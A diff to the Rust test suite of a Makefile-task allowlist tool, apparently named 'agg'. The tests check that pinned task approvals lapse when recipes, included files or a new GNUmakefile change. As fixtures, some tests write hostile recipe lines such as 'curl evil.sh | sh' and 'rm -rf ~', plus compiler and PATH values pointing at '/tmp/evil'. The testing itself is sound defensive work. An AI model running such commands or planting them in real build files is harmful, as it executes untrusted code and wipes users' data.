@@ -226,6 +226,7 @@ mod tests {
             file: file.map(PathBuf::from),
             task: task.map(str::to_owned),
             pin: None,
+            any_args: false,
         }
     }
 
@@ -284,7 +285,7 @@ mod tests {
             }
             // Identical allow and deny rules cannot coexist through the API, but a
             // hand-edited file can hold both: deny still wins.
-            let decision = list.decide(Path::new(ROOT), &build);
+            let decision = list.decide(Path::new(ROOT), &build, &mut Now::new());
             let expected = if deny {
                 Decision::Denied("task build in /repo/web/Makefile".to_owned())
             } else if dir {
@@ -298,7 +299,7 @@ mod tests {
             };
             assert_eq!(decision, expected, "mask {mask:04b}");
             // Other tasks of the same file follow only the file and dir rules.
-            let other = list.decide(Path::new(ROOT), &deploy);
+            let other = list.decide(Path::new(ROOT), &deploy, &mut Now::new());
             assert_eq!(other.allowed(), dir || whole_file, "mask {mask:04b}");
         }
     }
@@ -309,12 +310,12 @@ mod tests {
         list.allow(rule(Some("/repo/app"), None, None));
         let mut t = task("x", "true");
         t.file_path = "app/Makefile".to_owned();
-        assert!(list.decide(Path::new(ROOT), &t).allowed());
+        assert!(list.decide(Path::new(ROOT), &t, &mut Now::new()).allowed());
         t.file_path = "application/Makefile".to_owned();
-        assert!(!list.decide(Path::new(ROOT), &t).allowed());
+        assert!(!list.decide(Path::new(ROOT), &t, &mut Now::new()).allowed());
         list.deny(rule(Some("/repo/app/secret"), None, None));
         t.file_path = "app/secret/Makefile".to_owned();
-        assert!(!list.decide(Path::new(ROOT), &t).allowed());
+        assert!(!list.decide(Path::new(ROOT), &t, &mut Now::new()).allowed());
     }
 
     #[test]
@@ -327,94 +328,157 @@ mod tests {
         assert_eq!(list.allow(r), Change::Unchanged);
     }
 
+    /// A repository with these files, and its canonical root.
+    fn repo(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().expect("repo");
+        let root = std::fs::canonicalize(dir.path()).expect("root");
+        for (path, text) in files {
+            std::fs::write(root.join(path), text).expect("write");
+        }
+        (dir, root)
+    }
+
+    /// The task `name` as a fresh scan of `root` lists it.
+    fn listed(root: &Path, name: &str) -> Task {
+        crate::table::Table::load(root)
+            .tasks
+            .into_iter()
+            .find(|t| t.source_name == name)
+            .expect("listed")
+    }
+
+    /// The pin `agg allow NAME` writes now.
+    fn pin(root: &Path, task: &Task) -> Pin {
+        Now::new()
+            .current(root, task)
+            .task_pin
+            .clone()
+            .expect("pin")
+    }
+
+    fn decide(list: &Allowlist, root: &Path, task: &Task) -> Decision {
+        list.decide(root, task, &mut Now::new())
+    }
+
     #[test]
     fn a_pinned_task_lapses_when_its_recipe_changes_and_says_how() {
-        let root = Path::new(ROOT);
-        let before = task("build", "cc -o app main.c");
+        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc -o app main.c\n")]);
+        let build = listed(&root, "build");
         let mut list = Allowlist::default();
         list.allow(Rule::for_task(
-            PathBuf::from("/repo/web/Makefile"),
+            root.join("Makefile"),
             "build".to_owned(),
-            Some(Pin::task(root, &before)),
+            Some(pin(&root, &build)),
         ));
-        assert!(list.decide(root, &before).allowed());
-        let after = task("build", "cc -o app main.c\ncurl evil.sh | sh\nrm -rf ~");
-        assert_eq!(
-            list.decide(root, &after),
-            Decision::Lapsed {
-                rule: "task build in /repo/web/Makefile (pinned)".to_owned(),
-                summary: "recipe text changed (1 → 3 lines)".to_owned(),
-            }
-        );
-        let mut moved = before.clone();
-        moved.command = "make -f other.mk build".to_owned();
-        moved.deps = vec!["fetch".to_owned()];
-        let Decision::Lapsed { summary, .. } = list.decide(root, &moved) else {
+        assert!(decide(&list, &root, &build).allowed());
+        std::fs::write(
+            root.join("Makefile"),
+            "build:\n\tcc -o app main.c\n\tcurl evil.sh | sh\n\trm -rf ~\n",
+        )
+        .expect("write");
+        // The table still says what it said: the files decide.
+        let Decision::Lapsed { rule, summary } = decide(&list, &root, &build) else {
             panic!("not lapsed");
         };
-        assert_eq!(
-            summary,
-            "command `make build` → `make -f other.mk build`; deps (none) → fetch"
-        );
-        let mut env = before.clone();
-        env.env = vec![("PATH".to_owned(), "/tmp/evil".to_owned())];
-        assert_eq!(
-            list.decide(root, &env),
-            Decision::Lapsed {
-                rule: "task build in /repo/web/Makefile (pinned)".to_owned(),
-                summary: "parameters, environment or runner settings changed".to_owned(),
-            }
-        );
-        // Only its own definition counts: the line moving is no change.
-        let mut shifted = before.clone();
-        shifted.line = Some(40);
-        assert!(list.decide(root, &shifted).allowed());
-        // Allowing it again re-pins it.
-        assert_eq!(
-            list.allow(Rule::for_task(
-                PathBuf::from("/repo/web/Makefile"),
-                "build".to_owned(),
-                Some(Pin::task(root, &after)),
-            )),
-            Change::Updated
-        );
-        assert_eq!(list.allow.len(), 1);
-        assert!(list.decide(root, &after).allowed());
+        assert_eq!(rule, format!("task build in {} (pinned)", root.join("Makefile").display()));
+        assert!(summary.starts_with("recipe text changed (1 → 3 lines)"), "{summary}");
+        // A variable the recipe reads, elsewhere in the file, changes what runs too.
+        std::fs::write(root.join("Makefile"), "CC = evil\nbuild:\n\tcc -o app main.c\n").expect("write");
+        let Decision::Lapsed { summary, .. } = decide(&list, &root, &build) else {
+            panic!("not lapsed");
+        };
+        assert!(summary.ends_with("Makefile changed"), "{summary}");
+        // Put back as it was, the pin holds again.
+        std::fs::write(root.join("Makefile"), "build:\n\tcc -o app main.c\n").expect("write");
+        assert!(decide(&list, &root, &build).allowed());
+    }
+
+    #[test]
+    fn a_pin_covers_what_the_task_file_includes() {
+        let (_dir, root) = repo(&[
+            ("Makefile", "include common.mk\nbuild:\n\t$(CC) main.c\n"),
+            ("common.mk", "CC = cc\n"),
+        ]);
+        let build = listed(&root, "build");
+        let pinned = pin(&root, &build);
+        let covered: Vec<PathBuf> = pinned.files.iter().map(|f| f.path.clone()).collect();
+        assert_eq!(covered, [root.join("Makefile"), root.join("common.mk")]);
+        let mut list = Allowlist::default();
+        list.allow(Rule::for_task(root.join("Makefile"), "build".to_owned(), Some(pinned)));
+        assert!(decide(&list, &root, &build).allowed());
+        std::fs::write(root.join("common.mk"), "CC = /tmp/evil\n").expect("write");
+        let Decision::Lapsed { summary, .. } = decide(&list, &root, &build) else {
+            panic!("not lapsed");
+        };
+        assert_eq!(summary, format!("{} changed", root.join("common.mk").display()));
+    }
+
+    #[test]
+    fn a_file_the_runner_prefers_lapses_the_pin() {
+        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
+        let build = listed(&root, "build");
+        let mut list = Allowlist::default();
+        list.allow(Rule::for_task(root.join("Makefile"), "build".to_owned(), Some(pin(&root, &build))));
+        std::fs::write(root.join("GNUmakefile"), "build:\n\tid\n").expect("write");
+        let Decision::Lapsed { summary, .. } = decide(&list, &root, &build) else {
+            panic!("not lapsed");
+        };
+        assert!(summary.contains("GNUmakefile now stands beside Makefile"), "{summary}");
     }
 
     #[test]
     fn a_broader_unpinned_allow_still_allows_a_lapsed_task() {
-        let root = Path::new(ROOT);
+        let (_dir, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
+        let build = listed(&root, "build");
         let mut list = Allowlist::default();
         list.allow(Rule::for_task(
-            PathBuf::from("/repo/web/Makefile"),
+            root.join("Makefile"),
             "build".to_owned(),
-            Some(Pin::task(root, &task("build", "cc"))),
+            Some(pin(&root, &build)),
         ));
+        std::fs::write(root.join("Makefile"), "build:\n\tcc -g\n").expect("write");
         assert!(matches!(
-            list.decide(root, &task("build", "cc -g")),
+            decide(&list, &root, &build),
             Decision::Lapsed { .. }
         ));
-        list.allow(rule(None, Some("/repo/web/Makefile"), None));
+        list.allow(rule(None, Some(&root.join("Makefile").to_string_lossy()), None));
         assert_eq!(
-            list.decide(root, &task("build", "cc -g")),
-            Decision::Allowed("file /repo/web/Makefile".to_owned())
+            decide(&list, &root, &build),
+            Decision::Allowed(format!("file {}", root.join("Makefile").display()))
         );
     }
 
     #[test]
+    fn rules_match_a_symlinked_task_file_by_either_path_and_deny_wins() {
+        let (_dir, root) = repo(&[("tasks.mk", "build:\n\tcc\n")]);
+        std::os::unix::fs::symlink("tasks.mk", root.join("Makefile")).expect("link");
+        let build = listed(&root, "build");
+        assert_eq!(build.file_path, "Makefile");
+        let mut list = Allowlist::default();
+        list.allow(rule(Some(&root.to_string_lossy()), None, None));
+        assert!(decide(&list, &root, &build).allowed());
+        // `agg deny --file Makefile` stores the canonical target.
+        list.deny(rule(None, Some(&root.join("tasks.mk").to_string_lossy()), None));
+        assert!(matches!(decide(&list, &root, &build), Decision::Denied(_)));
+        // And an allow written for the target allows the task listed through the link.
+        let mut list = Allowlist::default();
+        list.allow(rule(None, Some(&root.join("tasks.mk").to_string_lossy()), None));
+        assert!(decide(&list, &root, &build).allowed());
+    }
+
+    #[test]
     fn the_file_round_trips_with_pins() {
+        let (_repo, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
+        let build = listed(&root, "build");
         let dir = tempfile::tempdir().expect("tmp");
         let store = Store::new(dir.path().join("agg/allowlist.toml"));
         store
-            .allow_task(Path::new(ROOT), &task("build", "cc"))
+            .allow_task(&root, &build, pin(&root, &build), true)
             .expect("allow");
         store.deny_dir(Path::new("/r/infra")).expect("deny");
         let list = store.load().expect("load");
-        assert_eq!(
-            list.allow[0].pin,
-            Some(Pin::task(Path::new(ROOT), &task("build", "cc")))
-        );
+        assert_eq!(list.allow[0].pin, Some(pin(&root, &build)));
+        assert!(list.allow[0].any_args);
         assert_eq!(list.deny, vec![rule(Some("/r/infra"), None, None)]);
         std::fs::write(store.path(), "allow = 3\n").expect("write");
         let err = store.load().expect_err("bad").to_string();
@@ -424,41 +488,41 @@ mod tests {
     /// The calls the MCP server makes when the user answers in the client.
     #[test]
     fn what_the_store_writes_the_live_allowlist_decides() {
-        let repo = tempfile::tempdir().expect("repo");
+        let (_repo, root) = repo(&[("Makefile", "build:\n\tcc\n")]);
         let config = tempfile::tempdir().expect("config");
-        let root = std::fs::canonicalize(repo.path()).expect("root");
-        std::fs::create_dir_all(root.join("web")).expect("mkdir");
-        std::fs::write(root.join("web/Makefile"), "build:\n\tcc\n").expect("write");
         let store = Store::new(config.path().join("allowlist.toml"));
         let mut live = LiveAllowlist::new(Some(store.path().to_path_buf()), &root);
-        let build = task("build", "cc");
-        assert_eq!(live.decide(&build), Decision::NotListed);
+        let build = listed(&root, "build");
+        assert_eq!(live.decide(&build, &mut Now::new()), Decision::NotListed);
 
+        let file_pin = Now::new().current(&root, &build).file_pin.clone().expect("pin");
         assert_eq!(
-            store.allow_task_file(&root, &build, true).expect("write"),
+            store.allow_file(&root.join("Makefile"), Some(file_pin)).expect("write"),
             Change::Added
         );
-        assert!(live.decide(&build).allowed());
-        std::fs::write(root.join("web/Makefile"), "build:\n\tcc\n# x\n").expect("write");
-        let Decision::Lapsed { summary, .. } = live.decide(&build) else {
+        assert!(live.decide(&build, &mut Now::new()).allowed());
+        std::fs::write(root.join("Makefile"), "build:\n\tcc\n# x\n").expect("write");
+        let Decision::Lapsed { summary, .. } = live.decide(&build, &mut Now::new()) else {
             panic!("not lapsed");
         };
         assert_eq!(summary, "file content changed (2 → 3 lines)");
 
+        let build = listed(&root, "build");
+        let pinned = pin(&root, &build);
         assert_eq!(
-            store.allow_task(&root, &build).expect("write"),
+            store.allow_task(&root, &build, pinned.clone(), false).expect("write"),
             Change::Added
         );
-        assert!(live.decide(&build).allowed());
+        assert!(live.decide(&build, &mut Now::new()).allowed());
         assert_eq!(
-            store.allow_task(&root, &build).expect("write"),
+            store.allow_task(&root, &build, pinned, false).expect("write"),
             Change::Unchanged
         );
         assert_eq!(
             store.deny_task(&root, &build).expect("write"),
             Change::Updated
         );
-        assert!(matches!(live.decide(&build), Decision::Denied(_)));
+        assert!(matches!(live.decide(&build, &mut Now::new()), Decision::Denied(_)));
     }
 
     #[test]
